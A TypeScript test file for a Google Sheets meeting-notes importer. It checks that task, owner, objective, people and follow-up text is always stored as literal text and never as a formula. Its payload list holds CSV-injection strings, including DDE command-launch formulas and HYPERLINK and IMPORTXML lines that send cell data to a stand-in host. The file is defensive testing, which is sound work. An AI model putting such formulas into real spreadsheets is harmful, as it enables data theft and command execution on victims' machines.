import { appendFollowUpLog, importMeeting, savePeople } from '../../../src/server/sheets';
import { harness, importRequest, objective, sheetNamed, task } from './harness';

/** OWASP "CSV Injection" payloads, and text that Sheets would otherwise read as a number, date or boolean. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'DDE ("cmd";"/C calc";"!A0")A0',
  '0012',
  '1,5',
  '2026-03-20',
  'TRUE',
  '3/4',
];

function expectLiteral(sheet: GoogleAppsScript.Spreadsheet.Sheet, expected: string[], column: number): void {
  const range = sheet.getRange(2, column, expected.length, 1);
  expect(range.getValues().map((row) => row[0])).toEqual(expected);
  expect(range.getFormulas().map((row) => row[0])).toEqual(expected.map(() => ''));
}

describe('text from the notes is always written as text', () => {
  it('in tasks, owners, objectives and the meeting', () => {
    const { spreadsheet, context } = harness();
    // Each payload is both a task's text and, on another task, its owner; keys stay distinct either way.
    const tasks = PAYLOADS.flatMap((payload, index) => [
      task(`T${index}`, payload, { owners: [`Persona ${index}`] }),
      task(`U${index}`, `Tarea ${index}`, { owners: [payload] }),
    ]);
    const objectives = PAYLOADS.map((payload, index) =>
      objective(`O${index}`, payload, { owners: [`Persona ${index}`] }),
    );
    importMeeting(context('es'), {
      ...importRequest(tasks, objectives),
      meeting: { date: '2026-03-06', title: PAYLOADS[0] as string, notes: PAYLOADS.join('\n') },
    });
    const taskSheet = sheetNamed(spreadsheet, 'Tareas');
    const everyOther = (values: unknown[][], offset: number) =>
      values.filter((_, index) => index % 2 === offset).map((row) => row[0]);
    expect(everyOther(taskSheet.getRange(2, 2, PAYLOADS.length * 2, 1).getValues(), 0)).toEqual(PAYLOADS);
    // Owner names are trimmed like any name, and still kept as text.
    expect(everyOther(taskSheet.getRange(2, 4, PAYLOADS.length * 2, 1).getValues(), 1)).toEqual(
      PAYLOADS.map((payload) => payload.trim()),
    );
    expect(
      taskSheet
        .getRange(2, 1, PAYLOADS.length * 2, 10)
        .getFormulas()
        .flat()
        .filter(Boolean),
    ).toEqual([]);
    expectLiteral(sheetNamed(spreadsheet, 'Objetivos'), PAYLOADS, 2);
    expectLiteral(sheetNamed(spreadsheet, 'Reuniones'), [PAYLOADS[0] as string], 2);
    expectLiteral(sheetNamed(spreadsheet, 'Reuniones'), [PAYLOADS.join('\n')], 3);
  });

  it('even after the client reset the formats of the whole Tasks tab', () => {
    const { spreadsheet, context } = harness();
    importMeeting(context('es'), importRequest([task('T0', 'Primera')]));
    const taskSheet = sheetNamed(spreadsheet, 'Tareas');
    taskSheet.getRange(1, 1, taskSheet.getMaxRows(), taskSheet.getMaxColumns()).setNumberFormat('General');
    importMeeting(
      context('es'),
      importRequest(
        PAYLOADS.map((payload, index) => task(`T${index + 1}`, payload, { owners: [`P${index}`] })),
      ),
    );
    expectLiteral(taskSheet, ['Primera', ...PAYLOADS], 2);
  });

  it('in people and the follow-up log', () => {
    const { spreadsheet, context } = harness();
    savePeople(
      context('es'),
      PAYLOADS.map((payload, index) => ({
        name: `${payload}${index}`,
        aliases: [],
        email: payload,
        role: 'team',
      })),
    );
    expectLiteral(
      sheetNamed(spreadsheet, 'Personas'),
      PAYLOADS.map((payload) => payload.trim()),
      3,
    );
    appendFollowUpLog(
      context('es'),
      PAYLOADS.map((payload) => ({
        sentOn: '2026-03-09',
        to: payload,
        overdue: 1,
        dueThisWeek: 2,
        done: 3,
        result: payload,
      })),
    );
    expectLiteral(sheetNamed(spreadsheet, 'Seguimiento'), PAYLOADS, 2);
  });
});
